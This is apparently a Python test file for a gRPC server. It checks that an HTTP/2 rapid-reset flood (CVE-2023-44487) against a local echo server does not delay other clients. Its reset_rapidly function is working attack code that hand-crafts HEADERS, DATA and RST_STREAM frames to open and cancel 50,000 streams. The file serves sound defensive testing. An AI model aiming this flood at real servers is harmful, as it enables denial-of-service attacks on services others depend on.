"""HTTP/2 rapid reset (CVE-2023-44487): who opens and drops streams all day delays nobody else."""

from __future__ import annotations

import asyncio
import struct
import time

import grpc
import grpc.aio
from hpack import Encoder

from mesh.server import Server
from tests.server.echo import Echo, EchoStub, Text

HEADERS, DATA, RST_STREAM, SETTINGS = 1, 0, 3, 4
END_HEADERS, END_STREAM = 4, 1
CANCEL = struct.pack(">I", 8)
EMPTY_MESSAGE = bytes(5)
RESETS, AT_ONCE = 50_000, 50
REQUEST = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/test.echo.v1.EchoService/Say"),
    (":authority", "echo"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


async def reset_rapidly(host: str, port: int) -> int:
    """Open streams and drop each at once, on one connection after another; how many it took."""
    connections, left = 0, RESETS
    while left > 0:
        reader, writer = await asyncio.open_connection(host, port)
        connections += 1
        discarding = asyncio.ensure_future(_discard(reader))
        encoder, stream = Encoder(), 1
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
        while left > 0 and not discarding.done():
            for _ in range(AT_ONCE):
                writer.write(frame(HEADERS, END_HEADERS, stream, encoder.encode(REQUEST)))
                writer.write(frame(DATA, END_STREAM, stream, EMPTY_MESSAGE))
                writer.write(frame(RST_STREAM, 0, stream, CANCEL))
                stream += 2
            left -= AT_ONCE
            try:
                await writer.drain()
            except ConnectionError:
                break
        writer.close()
        await discarding
    return connections


async def _discard(reader: asyncio.StreamReader) -> None:
    try:
        while await reader.read(65536):
            pass
    except ConnectionError:
        pass


async def test_resets_without_end_delay_nobody_else():
    server = Server("echo", [Echo()])
    async with server.serving() as address, grpc.aio.insecure_channel(address) as channel:
        host, _, port = address.rpartition(":")
        echo, codes, longest = EchoStub(channel), [], 0.0
        await echo.Say(Text(text="a"))
        attack = asyncio.ensure_future(reset_rapidly(host, int(port)))
        while not attack.done():
            began = time.monotonic()
            codes.append(await echo.Say(Text(text="a"), timeout=10).code())
            longest = max(longest, time.monotonic() - began)

        assert await attack > 0
        assert set(codes) == {grpc.StatusCode.OK}
        assert longest < 5
        # And the server is as well as before.
        assert (await echo.Say(Text(text="b"), timeout=5)).text == "b"
